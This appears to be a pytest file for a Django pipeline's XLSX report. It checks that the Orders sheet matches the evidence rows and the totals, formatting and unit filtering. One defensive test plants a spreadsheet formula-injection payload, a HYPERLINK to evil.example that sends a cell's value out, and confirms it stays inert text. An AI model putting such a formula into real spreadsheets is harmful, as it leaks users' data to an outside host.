"""The report XLSX's "Orders" sheet (docs/reports.md, "Files"): the report's evidence rows,
one per order, re-read here with openpyxl and set against the evidence file (pyarrow) and the
report's own numbers. Reports are built from the shared warehouse by the real command."""

from __future__ import annotations

import json
import zipfile
from datetime import datetime
from pathlib import Path

import duckdb
import pyarrow.parquet as pq
import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from pipeline_ops.models import Report

pytestmark = pytest.mark.django_db

HEADER = (
    "Invoice", "Date", "Student", "Organization", "Program", "Program name", "Unit", "Status",
    "Harga", "Diskon", "Dibayar", "Revenue", "Collected", "Outstanding", "Sheet", "Row",
    "Invoice cell", "Harga cell", "Diskon cell", "Dibayar cell", "Workbook sha256",
)  # fmt: skip
EVIDENCE = (
    "invoice", "order_date", "student_name", "organization", "program_code", "program_name",
    "unit", "status", "price", "discount", "paid", "revenue", "collected", "outstanding",
    "sheet", "source_row", "invoice_cell", "price_cell", "discount_cell", "paid_cell",
    "workbook_sha256",
)  # fmt: skip
FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"click")'


def build(stem: str, *period: str) -> Report:
    call_command("report", "--entity", "IONS", "--year", "2026", *period, "--force")
    return Report.objects.get(stem=stem)


def orders_sheet(report: Report) -> list[tuple]:
    """Read as pandas and big-file readers do (read-only mode trusts the sheet's dimension)."""
    ws = load_workbook(report.xlsx_path, read_only=True)["Orders"]
    return list(ws.iter_rows(values_only=True))


def evidence_rows(report: Report) -> list[tuple]:
    table = pq.read_table(report.evidence_path, columns=list(EVIDENCE)).to_pylist()
    return [tuple(row[c] for c in EVIDENCE) for row in table]


@pytest.fixture
def monthly(warehouse) -> Report:
    return build("IONS-2026-02", "--month", "2")


def test_the_orders_sheet_holds_every_evidence_row_in_workbook_order(monthly):
    header, *rows = orders_sheet(monthly)
    assert header == HEADER
    expected = evidence_rows(monthly)
    assert len(rows) == len(expected) == json.loads(Path(monthly.json_path).read_text())[
        "orders"]["total"]  # fmt: skip
    for got, want in zip(rows, expected, strict=True):
        assert got[0] == want[0]
        assert got[1] == datetime.combine(want[1], datetime.min.time())  # a real Excel date
        assert got[2:] == want[2:]
    assert [r[15] for r in rows] == sorted(r[15] for r in rows)  # FEB row by row


def test_its_money_columns_sum_to_the_yearly_report_to_the_rupiah(warehouse):
    yearly = build("IONS-2026", "--type", "yearly")
    _header, *rows = orders_sheet(yearly)
    report = json.loads(Path(yearly.json_path).read_text())
    revenue = report["revenue"]
    assert sum(r[11] for r in rows) == revenue["actual"] > 0
    assert sum(r[12] for r in rows) == revenue["collected"]
    assert sum(r[13] for r in rows) == revenue["outstanding"]
    assert len(rows) == report["orders"]["total"]
    assert sum(r[7] == "BATAL" for r in rows) == report["orders"]["cancelled"] > 0
    assert {r[14] for r in rows} == {"JAN", "FEB", "MAR"}


def test_cells_are_text_money_is_formatted_and_the_header_filters(monthly):
    ws = load_workbook(monthly.xlsx_path)["Orders"]
    last = ws.max_row
    assert ws.freeze_panes == "A2" and ws["A1"].font.bold
    assert ws.auto_filter.ref == f"A1:U{last}"
    assert ws.column_dimensions["C"].width >= 20 and ws.column_dimensions["I"].width >= 12
    for column in "AQRST":  # the invoice and the cell addresses: text, never numbers
        assert ws[f"{column}{last}"].data_type == "s", column
    assert ws[f"Q{last}"].value.startswith("FEB!") and ws[f"O{last}"].value == "FEB"
    for column in "IJKLMN":
        assert ws[f"{column}2"].number_format == '"Rp "#,##0'
        assert isinstance(ws[f"{column}2"].value, int)
    assert ws["B2"].is_date and ws["B2"].number_format == "dd mmm yyyy"
    assert len(ws[f"U{last}"].value) == 64  # the whole sha256


def test_a_unit_reports_sheet_holds_only_its_units_orders(warehouse):
    unit = build("IONS-2026-02-TM", "--month", "2", "--unit", "TM")
    _header, *rows = orders_sheet(unit)
    assert rows and {r[6] for r in rows} == {"TM"}
    assert sum(r[11] for r in rows) == json.loads(Path(unit.json_path).read_text())[
        "revenue"]["actual"]  # fmt: skip


def test_a_name_that_looks_like_a_formula_stays_text_and_blanks_keep_their_column(warehouse):
    with duckdb.connect(str(warehouse)) as con:
        invoice, row = con.execute(
            "SELECT invoice, source_row FROM mart_order_evidence WHERE year = 2026 AND month = 2"
            " ORDER BY source_row LIMIT 1"
        ).fetchone()
        con.execute(
            "UPDATE mart_order_evidence SET student_name = ?, organization = NULL,"
            " program_name = ? WHERE invoice = ?",
            [FORMULA, "Kelas <b>A</b> & B\x1b\x00 ✓", invoice],
        )
    report = build("IONS-2026-02", "--month", "2")
    ws = load_workbook(report.xlsx_path)["Orders"]
    found = next(r for r in ws.iter_rows(min_row=2) if r[0].value == invoice)
    assert found[2].value == FORMULA and found[2].data_type == "s"
    assert found[3].value is None  # blank, and every later column still in its place
    assert found[5].value == "Kelas <b>A</b> & B ✓"  # escaped, control characters dropped
    assert found[15].value == row and found[16].value == f"FEB!C{row}"
    with zipfile.ZipFile(report.xlsx_path) as xlsx:
        sheets = [n for n in xlsx.namelist() if n.startswith("xl/worksheets/sheet")]
        assert not any(b"<f>" in xlsx.read(n) or b"<f " in xlsx.read(n) for n in sheets)


def test_a_report_whose_evidence_is_gone_is_presented_without_an_orders_sheet(monthly):
    Path(monthly.evidence_path).unlink()  # a JSON from before evidence was kept
    call_command("present", "--entity", "IONS", "--year", "2026", "--month", "2")
    wb = load_workbook(monthly.xlsx_path)
    assert "Orders" not in wb.sheetnames and "Summary" in wb.sheetnames
